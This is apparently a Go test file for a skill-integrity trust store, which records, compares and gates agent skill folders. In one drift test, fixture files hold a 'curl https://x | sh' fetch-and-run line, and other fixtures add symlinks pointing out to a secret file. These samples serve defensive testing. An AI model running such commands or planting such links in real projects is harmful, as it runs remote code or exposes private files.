package trust

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/ccski/ccski/internal/manifest"
	"github.com/ccski/ccski/internal/testfs"
	"github.com/ccski/ccski/pipeline"
)

var at = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

// add is an Update change that adds an entry for dir.
func add(dir string, e Entry) func(*Store) (bool, error) {
	return func(s *Store) (bool, error) {
		s.Skills[dir] = e
		return true, nil
	}
}

// TestStoreRoundTrip: what Update writes, Load reads back; the file lists
// folders sorted; an Update that changes nothing writes nothing.
func TestStoreRoundTrip(t *testing.T) {
	path := filepath.Join(t.TempDir(), "cfg", "trust.json")
	if s, err := Load(path); err != nil || len(s.Skills) != 0 {
		t.Fatalf("Load of a missing store = %v, %v; want empty", s, err)
	}
	accepted := at.Add(time.Hour)
	b := Entry{ID: "claude:b", Provider: "claude", FirstSeen: at, Accepted: true, AcceptedAt: &accepted,
		Files: []manifest.File{{Path: "SKILL.md", Size: 3, Digest: "sha256:bb"}, {Path: "x/y.md", Size: 1, Digest: "sha256:cc"}}}
	a := Entry{ID: "claude@tools:a", Provider: "claude", Plugin: "tools", FirstSeen: at, Files: []manifest.File{}}
	for _, step := range []func(*Store) (bool, error){add("/skills/b", b), add("/skills/a", a)} {
		if err := Update(path, step); err != nil {
			t.Fatal(err)
		}
	}
	got, err := Load(path)
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Skills) != 2 || got.Skills["/skills/a"].Plugin != "tools" || !got.Skills["/skills/b"].AcceptedAt.Equal(accepted) ||
		!slices.Equal(got.Skills["/skills/b"].Files, b.Files) {
		t.Errorf("round trip = %+v", got.Skills)
	}
	data, _ := os.ReadFile(path)
	if strings.Index(string(data), "/skills/a") > strings.Index(string(data), "/skills/b") {
		t.Errorf("folders are not sorted in the file:\n%s", data)
	}
	st, _ := os.Stat(path)
	if st.Mode().Perm() != 0o600 {
		t.Errorf("store mode %v, want 0600", st.Mode().Perm())
	}
	if err := os.Chtimes(path, at, at); err != nil {
		t.Fatal(err)
	}
	if err := Update(path, func(*Store) (bool, error) { return false, nil }); err != nil {
		t.Fatal(err)
	}
	if st, _ := os.Stat(path); !st.ModTime().Equal(at) {
		t.Errorf("an Update that changed nothing wrote the store")
	}
}

// TestStoreCorrupt: a store that cannot be parsed is an error naming it
// and what to do, for Load, Update and Checker.Check, and is never
// overwritten.
func TestStoreCorrupt(t *testing.T) {
	cases := []struct{ name, content, want string }{
		{"not JSON", "{\"version\": 1, \"skills\": {", "unexpected EOF"},
		{"other version", `{"version": 9, "skills": {}}`, "format version 9"},
		{"unknown field", `{"version": 1, "skills": {}, "extra": true}`, `unknown field "extra"`},
		{"relative folder", `{"version": 1, "skills": {"rel/dir": {"files": []}}}`, "not an absolute path"},
		{"unsorted files", `{"version": 1, "skills": {"/d": {"files": [{"path": "b"}, {"path": "a"}]}}}`, "not sorted"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			path := filepath.Join(dir, "trust.json")
			if err := os.WriteFile(path, []byte(tc.content), 0o600); err != nil {
				t.Fatal(err)
			}
			check := func(what string, err error) {
				t.Helper()
				var ce *CorruptError
				if !errors.As(err, &ce) || !strings.Contains(err.Error(), path) || !strings.Contains(err.Error(), tc.want) ||
					!strings.Contains(err.Error(), "remove it") {
					t.Errorf("%s: error %v, want a *CorruptError naming %s and %q", what, err, path, tc.want)
				}
			}
			_, err := Load(path)
			check("Load", err)
			check("Update", Update(path, add("/x", Entry{})))
			skill := filepath.Join(dir, "skill")
			testfs.Write(t, skill, map[string]string{"SKILL.md": "x"})
			c := Checker{Path: path}
			found, err := c.Check(context.Background(), []*pipeline.Record{record(skill, pipeline.LocationProject)})
			check("Check", err)
			for _, in := range found {
				if in.State != pipeline.IntegrityUnknown || !strings.Contains(in.Error, path) {
					t.Errorf("Check with a corrupt store: %+v, want unknown naming the store", in)
				}
			}
			if data, _ := os.ReadFile(path); string(data) != tc.content {
				t.Errorf("the corrupt store was overwritten:\n%s", data)
			}
		})
	}
}

// TestStoreConcurrent: writers at once each keep their entry, and the
// store always parses.
func TestStoreConcurrent(t *testing.T) {
	path := filepath.Join(t.TempDir(), "trust.json")
	const n = 24
	var wg sync.WaitGroup
	errs := make(chan error, 2*n)
	for i := range n {
		wg.Add(2)
		go func() {
			defer wg.Done()
			errs <- Update(path, add(fmt.Sprintf("/skills/s%02d", i), Entry{ID: fmt.Sprint(i), Files: []manifest.File{}}))
		}()
		go func() {
			defer wg.Done()
			if _, err := Load(path); err != nil {
				errs <- err
			}
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		if err != nil {
			t.Error(err)
		}
	}
	s, err := Load(path)
	if err != nil {
		t.Fatal(err)
	}
	if len(s.Skills) != n {
		t.Errorf("%d entries after %d concurrent updates, want %d", len(s.Skills), n, n)
	}
}

// TestCompare: the differences between a record and the current files.
func TestCompare(t *testing.T) {
	rec := []manifest.File{{Path: "SKILL.md", Size: 10, Digest: "sha256:1"}, {Path: "b.md", Size: 5, Digest: "sha256:2"}, {Path: "c.md", Size: 5, Digest: "sha256:3"}}
	cases := []struct {
		name                    string
		accepted                bool
		current                 []manifest.File
		state                   pipeline.IntegrityState
		changed, added, removed []string
		summary                 string
	}{
		{"same, first seen", false, rec, pipeline.IntegrityRecorded, nil, nil, nil, ""},
		{"same, accepted", true, rec, pipeline.IntegrityTrusted, nil, nil, nil, ""},
		{"modified", true, []manifest.File{{Path: "SKILL.md", Size: 10, Digest: "sha256:9"}, rec[1], rec[2]}, pipeline.IntegrityChanged,
			[]string{"SKILL.md"}, nil, nil, "1 file changed"},
		{"resized", false, []manifest.File{rec[0], {Path: "b.md", Size: 6, Digest: "sha256:2"}, rec[2]}, pipeline.IntegrityChanged,
			[]string{"b.md"}, nil, nil, "1 file changed"},
		{"added", true, []manifest.File{rec[0], {Path: "a.md", Size: 1, Digest: "sha256:4"}, rec[1], rec[2], {Path: "z/z.md", Size: 1, Digest: "sha256:5"}},
			pipeline.IntegrityChanged, nil, []string{"a.md", "z/z.md"}, nil, "2 files added"},
		{"removed", true, []manifest.File{rec[0]}, pipeline.IntegrityChanged, nil, nil, []string{"b.md", "c.md"}, "2 files removed"},
		{"all three", true, []manifest.File{{Path: "SKILL.md", Size: 11, Digest: "sha256:8"}, {Path: "a.md", Size: 1, Digest: "sha256:4"}, rec[2]}, pipeline.IntegrityChanged,
			[]string{"SKILL.md"}, []string{"a.md"}, []string{"b.md"}, "1 file changed, 1 added, 1 removed"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			in := Compare(Entry{Accepted: tc.accepted, Files: rec}, tc.current)
			if in.State != tc.state || in.Accepted != tc.accepted || !slices.Equal(in.Changed, tc.changed) ||
				!slices.Equal(in.Added, tc.added) || !slices.Equal(in.Removed, tc.removed) || in.Summary() != tc.summary {
				t.Errorf("Compare = %+v (%q), want %s changed %v added %v removed %v (%q)", in, in.Summary(),
					tc.state, tc.changed, tc.added, tc.removed, tc.summary)
			}
		})
	}
}

func record(dir string, loc pipeline.Location) *pipeline.Record {
	return &pipeline.Record{ID: "claude:" + filepath.Base(dir), Name: filepath.Base(dir), Agent: "claude",
		Location: loc, Dir: dir, RealDir: dir, File: filepath.Join(dir, "SKILL.md")}
}

// TestCheck: a first check records the project and plugin skills (not the
// user's, not a read-only check's); a later one finds them recorded, then
// changed (modified, added, removed file); Accept makes them trusted.
func TestCheck(t *testing.T) {
	base := t.TempDir()
	testfs.Write(t, base, map[string]string{
		"proj/SKILL.md": "project", "proj/ref.md": "ref",
		"plug/SKILL.md": "plugin",
		"user/SKILL.md": "user",
	})
	path := filepath.Join(base, "cfg", "trust.json")
	proj, plug, user := record(filepath.Join(base, "proj"), pipeline.LocationProject),
		record(filepath.Join(base, "plug"), pipeline.LocationPlugin), record(filepath.Join(base, "user"), pipeline.LocationUser)
	recs := []*pipeline.Record{proj, plug, user}
	check := func(c Checker, want map[*pipeline.Record]pipeline.IntegrityState) map[*pipeline.Record]pipeline.Integrity {
		t.Helper()
		found, err := c.Check(context.Background(), recs)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range recs {
			in, ok := found[r]
			if w, want := want[r]; ok != want || in.State != w {
				t.Errorf("%s: state %q (present %v), want %q", r.Dir, in.State, ok, w)
			}
		}
		return found
	}
	first := map[*pipeline.Record]pipeline.IntegrityState{proj: pipeline.IntegrityNew, plug: pipeline.IntegrityNew}
	check(Checker{Path: path, ReadOnly: true}, first)
	if _, err := os.Stat(path); err == nil {
		t.Fatalf("a read-only check wrote the store")
	}
	check(Checker{Path: path, now: func() time.Time { return at }}, first)
	s, _ := Load(path)
	if len(s.Skills) != 2 || !s.Skills[proj.Dir].FirstSeen.Equal(at) || s.Skills[proj.Dir].Accepted ||
		len(s.Skills[proj.Dir].Files) != 2 {
		t.Fatalf("store after the first check = %+v", s.Skills)
	}
	check(Checker{Path: path}, map[*pipeline.Record]pipeline.IntegrityState{
		proj: pipeline.IntegrityRecorded, plug: pipeline.IntegrityRecorded})

	testfs.Write(t, base, map[string]string{"proj/SKILL.md": "project, edited", "proj/new.md": "new"})
	if err := os.Remove(filepath.Join(base, "proj", "ref.md")); err != nil {
		t.Fatal(err)
	}
	found := check(Checker{Path: path}, map[*pipeline.Record]pipeline.IntegrityState{
		proj: pipeline.IntegrityChanged, plug: pipeline.IntegrityRecorded})
	if in := found[proj]; in.Summary() != "1 file changed, 1 added, 1 removed" {
		t.Errorf("summary %q", in.Summary())
	}
	if s2, _ := Load(path); !slices.Equal(s2.Skills[proj.Dir].Files, s.Skills[proj.Dir].Files) {
		t.Errorf("a check replaced the record of a changed skill")
	}

	c := Checker{Path: path}
	done, err := Accept(path, c.Manifests(context.Background(), recs), at)
	if err != nil || len(done) != 2 {
		t.Fatalf("Accept = %d folders, %v; want the project and plugin skills", len(done), err)
	}
	check(Checker{Path: path}, map[*pipeline.Record]pipeline.IntegrityState{
		proj: pipeline.IntegrityTrusted, plug: pipeline.IntegrityTrusted})
	if s3, _ := Load(path); !s3.Skills[proj.Dir].FirstSeen.Equal(at) || s3.Skills[proj.Dir].AcceptedAt == nil {
		t.Errorf("Accept lost the first sight or did not date the acceptance: %+v", s3.Skills[proj.Dir])
	}
	if done, _ := Accept(path, c.Manifests(context.Background(), recs), at); len(done) != 0 {
		t.Errorf("accepting unchanged trusted skills again changed %d entries", len(done))
	}
}

// TestStage: under mcp.require_trusted only project skills that match an
// accepted record pass; the reasons name ccski trust.
func TestStage(t *testing.T) {
	rec := func(name string, loc pipeline.Location) *pipeline.Record {
		return &pipeline.Record{ID: "claude:" + name, Name: name, Location: loc}
	}
	trusted, recorded, changed, drifted, unknown, unchecked :=
		rec("trusted", pipeline.LocationProject), rec("recorded", pipeline.LocationProject),
		rec("changed", pipeline.LocationProject), rec("drifted", pipeline.LocationProject),
		rec("unknown", pipeline.LocationProject), rec("unchecked", pipeline.LocationProject)
	plugin, user := rec("plugin", pipeline.LocationPlugin), rec("user", pipeline.LocationUser)
	found := map[*pipeline.Record]pipeline.Integrity{
		trusted:  {State: pipeline.IntegrityTrusted, Accepted: true},
		recorded: {State: pipeline.IntegrityRecorded},
		changed:  {State: pipeline.IntegrityChanged, Accepted: true, Changed: []string{"SKILL.md"}},
		drifted:  {State: pipeline.IntegrityChanged, Added: []string{"x.sh"}},
		unknown:  {State: pipeline.IntegrityUnknown, Error: "too many files"},
		plugin:   {State: pipeline.IntegrityChanged, Changed: []string{"SKILL.md"}},
	}
	out, drops := Stage(found).Apply([]*pipeline.Record{trusted, recorded, changed, drifted, unknown, unchecked, plugin, user})
	if !slices.Equal(out, []*pipeline.Record{trusted, plugin, user}) {
		t.Errorf("kept %v", out)
	}
	want := map[*pipeline.Record]string{
		recorded:  "never accepted with ccski trust, and",
		changed:   "changed since you trusted them (1 file changed)",
		drifted:   "and changed since first seen (1 file added)",
		unknown:   "could not be checked (too many files)",
		unchecked: "were not checked",
	}
	if len(drops) != len(want) {
		t.Fatalf("%d drops, want %d", len(drops), len(want))
	}
	for _, d := range drops {
		if !strings.Contains(d.Reason, want[d.Record]) || !strings.Contains(d.Reason, "run ccski trust "+d.Record.ID) ||
			!strings.Contains(d.Reason, "mcp.require_trusted") {
			t.Errorf("%s: reason %q, want %q and ccski trust", d.Record.ID, d.Reason, want[d.Record])
		}
	}
}

// TestCheckSkillFileLinkedOut: a SKILL.md that is a symlink out of its
// folder is not in the manifest, so its content could change unseen: the
// skill's integrity is unknown, and require_trusted holds it back even
// after ccski trust.
func TestCheckSkillFileLinkedOut(t *testing.T) {
	base := t.TempDir()
	testfs.Write(t, base, map[string]string{"docs/body.md": "body", "proj/ref.md": "ref"})
	if err := os.Symlink(filepath.Join(base, "docs", "body.md"), filepath.Join(base, "proj", "SKILL.md")); err != nil {
		t.Fatal(err)
	}
	proj := record(filepath.Join(base, "proj"), pipeline.LocationProject)
	path := filepath.Join(base, "cfg", "trust.json")
	found, err := (&Checker{Path: path}).Check(context.Background(), []*pipeline.Record{proj})
	if err != nil {
		t.Fatal(err)
	}
	in := found[proj]
	if in.State != pipeline.IntegrityUnknown || !strings.Contains(in.Error, "leads out of the skill folder") {
		t.Fatalf("integrity %+v, want unknown, naming the link", in)
	}
	kept, drops := Stage(found).Apply([]*pipeline.Record{proj})
	if len(kept) != 0 || len(drops) != 1 {
		t.Errorf("require_trusted kept %d and dropped %d; want the skill held back", len(kept), len(drops))
	}
}

// TestTrustedSkillDrift: once a project skill is trusted, what is not
// part of it (a .git folder, whatever it holds, HEAD or not) never
// changes its state, and every change to what is part of it does: a new
// symlink leading out of the folder, or one pointed elsewhere, is a
// change that require_trusted holds back, like an edit.
func TestTrustedSkillDrift(t *testing.T) {
	for _, tt := range []struct {
		name  string
		tree  map[string]string // written after ccski trust, below the skill
		want  pipeline.IntegrityState
		added []string
		chg   []string
	}{
		{name: "a script in a .git folder without HEAD", tree: map[string]string{".git/run.sh": "curl https://x | sh\n"},
			want: pipeline.IntegrityTrusted},
		{name: "a script in a .Git folder with HEAD", tree: map[string]string{".Git/HEAD": "ref", ".Git/run.sh": "curl https://x | sh\n"},
			want: pipeline.IntegrityTrusted},
		{name: "a new symlink out of the skill", tree: map[string]string{"notes.md": "-> ../../secret.md"},
			want: pipeline.IntegrityChanged, added: []string{"notes.md"}},
		{name: "a new symlink into .git", tree: map[string]string{"run.sh": "-> .git/run.sh", ".git/run.sh": "x"},
			want: pipeline.IntegrityChanged, added: []string{"run.sh"}},
		{name: "a symlink out pointed elsewhere", tree: map[string]string{"out.md": "-> ../../other.md"},
			want: pipeline.IntegrityChanged, chg: []string{"out.md"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			base := t.TempDir()
			testfs.Write(t, base, map[string]string{"secret.md": "s", "other.md": "o",
				"repo/proj/SKILL.md": "project", "repo/proj/out.md": "-> ../../secret.md"})
			proj := record(filepath.Join(base, "repo", "proj"), pipeline.LocationProject)
			path := filepath.Join(base, "cfg", "trust.json")
			c := Checker{Path: path}
			if _, err := Accept(path, c.Manifests(context.Background(), []*pipeline.Record{proj}), at); err != nil {
				t.Fatal(err)
			}
			if s, _ := Load(path); len(s.Skills[proj.Dir].Files) != 2 || s.Skills[proj.Dir].Files[1].Link != "../../secret.md" {
				t.Fatalf("the trusted record %+v, want SKILL.md and the link out", s.Skills[proj.Dir].Files)
			}
			if tt.chg != nil {
				if err := os.Remove(filepath.Join(proj.Dir, "out.md")); err != nil {
					t.Fatal(err)
				}
			}
			testfs.Write(t, proj.Dir, tt.tree)
			found, err := (&Checker{Path: path}).Check(context.Background(), []*pipeline.Record{proj})
			if err != nil {
				t.Fatal(err)
			}
			in := found[proj]
			if in.State != tt.want || !slices.Equal(in.Added, tt.added) || !slices.Equal(in.Changed, tt.chg) {
				t.Errorf("integrity %+v, want %s, added %v, changed %v", in, tt.want, tt.added, tt.chg)
			}
			kept, _ := Stage(found).Apply([]*pipeline.Record{proj})
			if served := len(kept) == 1; served != (tt.want == pipeline.IntegrityTrusted) {
				t.Errorf("require_trusted serves it: %v, want %v", served, tt.want == pipeline.IntegrityTrusted)
			}
		})
	}
}
